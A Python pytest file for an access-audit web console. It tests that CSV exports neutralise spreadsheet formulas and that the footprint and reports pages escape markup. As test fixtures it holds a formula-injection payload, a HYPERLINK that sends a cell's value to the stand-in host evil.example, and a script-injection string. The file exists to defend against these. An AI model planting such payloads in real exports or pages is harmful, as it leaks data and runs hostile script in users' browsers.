"""The footprint and reports pages without AWS: formula-safe CSV, the period rule, the id refusal, how report
values are printed, and both templates escaping what they show."""

from __future__ import annotations

import base64
import csv
import io
import re
from datetime import date
from typing import Any

import polars as pl
import pytest

from accesswatch.console.markup import render
from accesswatch.console.pages.footprint import Asked, Refused, parse_date, table_rows
from accesswatch.console.pages.reports import (
    asked_period_key,
    download_order,
    offered_periods,
    parse_period,
    shown_value,
    table_views,
)
from accesswatch.console.principal import Principal
from accesswatch.console.roles import Role
from accesswatch.console.web import BadRequest
from accesswatch.footprint import (
    FOOTPRINT_COLUMNS,
    ClientIdCheck,
    FootprintAnswer,
    FootprintMeta,
    client_safe_csv,
    footprint_csv,
    internal_csv,
    log_coverage,
)
from accesswatch.services.footprint import PeriodError, asked_period

OFFICER = Principal(user_id="u-privacy", roles=frozenset({Role.PRIVACY_OFFICER}), local=False)
PLANTED = '=HYPERLINK("http://evil.example/?"&A1,"click")'
MARKUP = "<script>alert('x')</script>\"&"


def frame(**overrides: Any) -> pl.DataFrame:
    row = {"occurred_at": "2025-04-01T10:22:20+13:00", "occurred_at_nz": "2025-04-01T10:22:20+13:00",
           "nz_date": date(2025, 4, 1), "system": "cms", "event_id": "cms-1", "user_id": "u412360",
           "account_type": "person", "role": "Team Leader", "team": "Case Management", "action": "view",
           "screen": "summary", "site": "Napier", "assignment_covered": False, "findings": "", "finding_ids": "",
           "case_ids": ""}
    return pl.DataFrame([{**row, **overrides}]).select(FOOTPRINT_COLUMNS)


def meta(client: str = "046408704") -> FootprintMeta:
    coverage = log_coverage({"cms": {date(2025, 4, 1), date(2025, 4, 3)}}, date(2025, 4, 1), date(2025, 4, 3))
    return FootprintMeta(ClientIdCheck(client, True, True), date(2025, 4, 1), date(2025, 4, 3), tuple(coverage))


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(line for line in io.StringIO(text) if not line.startswith("#")))


# ------------------------------------------------------------------------------------------ formula-safe CSV
@pytest.mark.parametrize("planted", [PLANTED, "+1+1", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", " =1+1"])
def test_the_csv_writer_neutralises_any_cell_that_could_start_a_formula(planted: str) -> None:
    text = footprint_csv(frame(screen=planted, team=planted))
    header, row = cells(text)
    assert row[header.index("screen")] == "'" + planted
    assert row[header.index("team")] == "'" + planted
    assert row[header.index("event_id")] == "cms-1"  # ordinary text untouched


def test_both_downloads_carry_the_planted_hyperlink_as_text_only() -> None:
    answer = FootprintAnswer(frame(team=PLANTED, role=PLANTED, user_id=PLANTED), meta())
    internal = internal_csv(answer)
    assert internal.startswith("# accesswatch footprint of client 046408704\n")
    header, row = cells(internal)
    assert {row[header.index(c)] for c in ("team", "role", "user_id")} == {"'" + PLANTED}
    safe_header, safe_row = cells(client_safe_csv(answer))
    assert safe_row[safe_header.index("staff_team")] == "'" + PLANTED
    assert safe_row[safe_header.index("staff_role")] == "'" + PLANTED
    assert "user_id" not in safe_header and "event_id" not in safe_header
    for text in (internal, client_safe_csv(answer)):
        for line in text.splitlines():
            for cell in next(csv.reader([line])) if line else []:
                assert not cell.startswith(("=", "+", "-", "@")), line


# ------------------------------------------------------------------------------------------ footprint rules
def test_the_period_rule_is_the_clis() -> None:
    held = {"cms": {date(2025, 3, 31), date(2025, 4, 2)}, "payment": set()}
    today = date(2025, 4, 10)
    assert asked_period(held, None, None, today) == (
        date(2025, 3, 31), today, ["no --from: the period starts on the first day any logs are held (2025-03-31)"])
    start, end, notes = asked_period(held, date(2025, 4, 1), date(2026, 1, 1), today)
    assert (start, end) == (date(2025, 4, 1), today) and "is after today" in notes[0]
    with pytest.raises(PeriodError, match="before it starts"):
        asked_period(held, date(2025, 5, 1), None, today)


def test_form_dates_and_the_parameters_kept_for_links() -> None:
    assert parse_date("", "from") is None
    assert parse_date("2025-04-01", "from") == date(2025, 4, 1)
    with pytest.raises(Refused, match=r"from: not a date \(YYYY-MM-DD\)"):
        parse_date("1/4/2025", "from")
    asked = Asked("046408704", "2025-04-01", "")
    assert asked.params("046408705") == {"client_id": "046408705", "from": "2025-04-01", "to": ""}


def test_the_footprint_page_escapes_every_value_and_links_suggestions() -> None:
    found = FootprintAnswer(frame(user_id=MARKUP, team=MARKUP, screen=MARKUP, findings="SELF_RECORD"), meta())
    asked = Asked("046408704", "2025-04-01", "2025-04-03")
    html = render("footprint.html", principal=OFFICER, title="Footprint", csrf_token="t", active="/footprint",
                  asked=asked, error="", suggestions=[], found=found, rows=table_rows(found.frame), shown=1, total=1,
                  users=1, flagged=1, meta_lines=found.meta.lines(), params=asked.params())
    assert "<script>alert" not in html
    assert "&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;&#34;&amp;" in html
    assert 'id="footprint-table"' in html and '<th scope="col">When (NZ)</th>' in html
    assert 'href="/footprint.csv?client_id=046408704&amp;from=2025-04-01&amp;to=2025-04-03"' in html
    refused = render("footprint.html", principal=OFFICER, title="Footprint", asked=Asked(MARKUP, "", ""),
                     error=f"client {MARKUP!r} is not in the current clients reference snapshot",
                     suggestions=[{"client_id": "046408704", "params": Asked(MARKUP, "", "").params("046408704")}],
                     found=None, rows=[], shown=0, total=0, users=0, flagged=0, meta_lines=[],
                     params=Asked(MARKUP, "", "").params())
    assert "<script>alert" not in refused and 'id="footprint-table"' not in refused
    assert '<a href="/footprint?client_id=046408704&amp;from=&amp;to=">046408704</a>' in refused


# ------------------------------------------------------------------------------------------ reports
def test_report_values_print_as_the_files_give_them() -> None:
    assert shown_value(None, "count") == ("no data", "nodata")  # report.json writes "no data" as null
    assert shown_value("S", "count") == ("S", "withheld")
    assert shown_value("S", "ratio") == ("S", "withheld")
    assert shown_value(1234, "count") == ("1,234", "num")
    assert shown_value(0, "total") == ("0", "num")
    assert shown_value(0.5, "ratio") == ("50.0%", "num")
    assert shown_value("", "ratio") == ("", "text")
    assert shown_value("yes", "flag") == ("yes", "text")


def document() -> dict[str, Any]:
    return {"tables": [{
        "id": "table1_investigations", "number": 1, "title": f"Investigations {MARKUP}", "row_key": "quarter_ending",
        "columns": [{"key": "founded", "label": "Founded", "kind": "count"},
                    {"key": "unfounded", "label": MARKUP, "kind": "count"},
                    {"key": "rate", "label": "Rate", "kind": "ratio"}],
        "rows": [{"key": "2025-06-30", "label": "30 June 2025", "total": False,
                  "values": {"founded": 7, "unfounded": "S", "rate": "S"}, "coverage": "complete"},
                 {"key": "2025-09-30", "label": "30 September 2025", "total": False,
                  "values": {"founded": None, "unfounded": None, "rate": ""}, "coverage": "no data"},
                 {"key": "total", "label": "Total", "total": True,
                  "values": {"founded": 1200, "unfounded": 3, "rate": 0.25}, "coverage": "partial"}],
        "notes": [MARKUP]}], "notes": [], "footnote": "S: withheld", "small_count_threshold": 5,
        "withheld_cells": 2, "no_data_cells": 2, "generated_at": "2026-11-30T00:00:00+00:00", "coverage": None}


def test_tables_keep_the_files_order_and_charts_become_data_uris() -> None:
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><text>x</text></svg>'
    [view] = table_views(document(), {"table1_investigations": svg})
    assert view["row_label"] == "Quarter ending"
    assert [[c["text"] for c in r["cells"]] for r in view["rows"]] == [
        ["7", "S", "S"], ["no data", "no data", ""], ["1,200", "3", "25.0%"]]
    assert view["chart"] == "data:image/svg+xml;base64," + base64.b64encode(svg).decode()
    assert view["has_coverage"]
    [bare] = table_views(document(), {})
    assert bare["chart"] == ""


def test_the_reports_page_escapes_titles_and_marks_withheld_counts() -> None:
    from accesswatch.quarters import Period

    class Release:
        key = "2025-04-01_2025-09-30"
        period = Period(date(2025, 4, 1), date(2025, 9, 30))
        published = True

    doc = document()
    html = render("reports.html", principal=OFFICER, title="Reports", asked=Release.key,
                  options=offered_periods([Release.key], date(2025, 10, 5)), release=Release, document=doc,
                  tables=table_views(doc, {"table1_investigations": b"<svg/>"}),
                  downloads=download_order(["charts/t.svg", "report.json", "t.csv", "report.xlsx"]),
                  coverage=["quarter ending 30 June 2025: complete"])
    assert "<script>alert" not in html
    assert html.count("&lt;script&gt;alert(&#39;x&#39;)&lt;/script&gt;") >= 3  # title, column, note
    assert '<abbr title="withheld under OIA s9(2)(a)">S</abbr>' in html
    assert '<th scope="row">30 June 2025</th>' in html and '<th scope="col">Coverage</th>' in html
    assert '<img src="data:image/svg+xml;base64,' in html and "<svg" not in html
    assert re.findall(r'href="/reports/2025-04-01_2025-09-30/([^"]+)"', html) == ["report.xlsx", "t.csv",
                                                                                "report.json"]
    assert f'<option value="{Release.key}" selected>' in html


def test_periods_offered_and_asked() -> None:
    options = offered_periods(["2025-01-01_2025-03-31"], date(2025, 5, 2))
    assert options[0] == {"key": "2025-01-01_2025-03-31", "label": "2025-01-01 to 2025-03-31 (published)"}
    assert options[1]["key"] == "2025-04-01_2025-06-30" and options[1]["label"].endswith("(so far)")
    assert [o["key"] for o in options].count("2025-01-01_2025-03-31") == 1
    assert len(options) == 12  # the published quarter is not offered twice
    assert asked_period_key("", "2025-06-30") == "2025-04-01_2025-06-30"
    assert asked_period_key("2025-01-01_2025-06-30", "2025-06-30") == "2025-01-01_2025-06-30"
    assert asked_period_key("", "") == ""
    for bad in ("2025-06-29", "June"):
        with pytest.raises(BadRequest):
            asked_period_key("", bad)
    assert parse_period("2025-01-01_2025-06-30").end == date(2025, 6, 30)
    for bad in ("2025-01-01", "2025-06-30_2025-01-01", "2025-02-30_2025-03-31", "../x"):
        with pytest.raises(BadRequest):
            parse_period(bad)


def test_a_release_published_before_later_fields_still_renders() -> None:
    from accesswatch.console.pages.reports import document_view
    from accesswatch.quarters import Period

    class Release:
        key = "2025-04-01_2025-09-30"
        period = Period(date(2025, 4, 1), date(2025, 9, 30))
        published = True

    older = {k: v for k, v in document().items() if k not in ("no_data_cells", "withheld_cells", "footnote", "notes")}
    def page(doc: dict[str, object]) -> str:
        return render("reports.html", principal=OFFICER, title="Reports", asked=Release.key,
                      options=offered_periods([Release.key], date(2025, 10, 5)), release=Release, document=doc,
                      tables=table_views(doc, {}), downloads=download_order(["report.json"]), coverage=[])

    from jinja2.exceptions import UndefinedError

    with pytest.raises(UndefinedError):  # what a 500 would have been
        page(older)
    html = page(document_view(older))
    assert re.search(r"0 cells\s+withheld, 0 with no data", html)
